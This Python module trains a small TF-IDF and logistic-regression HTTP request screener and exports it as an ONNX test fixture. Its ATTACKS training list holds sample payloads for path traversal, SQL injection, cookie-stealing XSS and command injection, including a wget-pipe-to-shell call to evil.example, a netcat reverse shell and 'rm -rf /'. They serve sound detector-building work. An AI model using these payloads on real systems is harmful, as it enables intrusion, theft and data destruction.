"""The request screener: TF-IDF (word and character n-grams) + logistic regression over raw
request lines, trained on a small generated set of benign and malicious lines and exported with
skl2onnx. Used by tools/make_fixtures.py (the committed Fixtures/screener)."""
import os
import random

import numpy as np
import onnx
from onnx import numpy_helper

BENIGN_PATHS = [
    "/", "/index.html", "/about", "/contact", "/products", "/products/{n}", "/api/users/{n}", "/api/orders?page={n}",
    "/static/js/app.{n}.js", "/static/css/site.css", "/img/logo.png", "/search?q={word}", "/blog/{word}-{word}",
    "/docs/getting-started", "/cart?item={n}&qty={d}", "/login", "/account/settings", "/api/v2/items/{n}/reviews",
    "/download/report-{n}.pdf", "/news?category={word}&sort=date",
]
WORDS = ["shoes", "laptop", "coffee", "garden", "travel", "music", "weather", "pricing", "support", "careers",
         "onyx", "swift", "linux", "kernel", "release", "notes", "summer", "sale", "books", "python"]
ATTACKS = [
    # path traversal
    "/../../etc/passwd", "/static/../../../etc/shadow", "/download?file=../../../../etc/passwd",
    "/img/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/..%5c..%5cwindows%5cwin.ini", "/include.php?page=../../../../proc/self/environ",
    # SQL injection
    "/login?user=admin' OR '1'='1", "/products?id={n} UNION SELECT username, password FROM users--",
    "/search?q=' OR 1=1 --", "/api/users/{n}; DROP TABLE users", "/item?id={n}' AND SLEEP(5)--",
    "/news?category=1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    # cross-site scripting
    "/search?q=<script>alert({n})</script>", "/comment?text=<img src=x onerror=alert(document.cookie)>",
    "/profile?name=<svg/onload=alert({n})>", "/page?redirect=javascript:alert({n})",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    # command injection
    "/ping?host=127.0.0.1;cat /etc/passwd", "/cgi-bin/test.sh?x=;wget http://evil.example/x.sh|sh",
    "/api/convert?file=a.png|nc -e /bin/sh 10.0.0.{d} 4444", "/run?cmd=$(curl http://evil.example)",
    "/export?name=report`id`", "/tools/lookup?domain=example.com&&rm -rf /",
]
METHODS = ["GET", "GET", "GET", "POST", "PUT", "DELETE"]


def _fill(template, rng):
    while "{" in template:
        template = (template.replace("{n}", str(rng.randint(1, 9999)), 1)
                    .replace("{d}", str(rng.randint(1, 9)), 1)
                    .replace("{word}", rng.choice(WORDS), 1))
    return template


def dataset(count, seed):
    """`count` request lines (half malicious) and their labels (1 = malicious)."""
    rng = random.Random(seed)
    lines, labels = [], []
    for i in range(count):
        malicious = i % 2 == 1
        path = _fill(rng.choice(ATTACKS if malicious else BENIGN_PATHS), rng)
        lines.append(f"{rng.choice(METHODS)} {path} HTTP/1.1")
        labels.append(int(malicious))
    return lines, labels


def train_and_export():
    """Returns (onnx model, fitted sklearn pipeline)."""
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline, make_union
    from skl2onnx import to_onnx
    from skl2onnx.common.data_types import StringTensorType

    lines, labels = dataset(600, seed=7)
    pipeline = make_pipeline(
        make_union(TfidfVectorizer(analyzer="word", max_features=400),
                   TfidfVectorizer(analyzer="char", ngram_range=(2, 3), max_features=1500)),
        LogisticRegression(max_iter=1000, C=4.0))
    pipeline.fit(lines, labels)
    model = to_onnx(pipeline, initial_types=[("request", StringTensorType([None, 1]))],
                    options={id(pipeline.steps[-1][1]): {"zipmap": False}},
                    target_opset={"": 17, "ai.onnx.ml": 3})
    model.graph.doc_string = "Request screener: TF-IDF word + char n-grams, logistic regression. 1 = malicious."
    return model, pipeline


def write(out_dir):
    """Writes Fixtures/screener: model.onnx and two test sets with onnxruntime's outputs."""
    import onnxruntime as ort

    folder = os.path.join(out_dir, "screener")
    os.makedirs(folder, exist_ok=True)
    model, pipeline = train_and_export()
    path = os.path.join(folder, "model.onnx")
    onnx.save(model, path)
    session = ort.InferenceSession(path, providers=["CPUExecutionProvider"])
    held_out, _ = dataset(40, seed=99)
    sets = [held_out[:5], ["GET /../../etc/passwd HTTP/1.1"]]
    worst_sklearn = 0.0
    for index, lines in enumerate(sets):
        x = np.array(lines, dtype=object).reshape(-1, 1)
        outputs = session.run(None, {"request": x})
        data = os.path.join(folder, f"test_data_set_{index}")
        os.makedirs(data, exist_ok=True)
        onnx.save_tensor(numpy_helper.from_array(x, "request"), os.path.join(data, "input_0.pb"))
        for k, (output, value) in enumerate(zip(session.get_outputs(), outputs)):
            onnx.save_tensor(numpy_helper.from_array(value, output.name), os.path.join(data, f"output_{k}.pb"))
        worst_sklearn = max(worst_sklearn, float(np.abs(pipeline.predict_proba(lines) - outputs[1]).max()))
    return folder, worst_sklearn
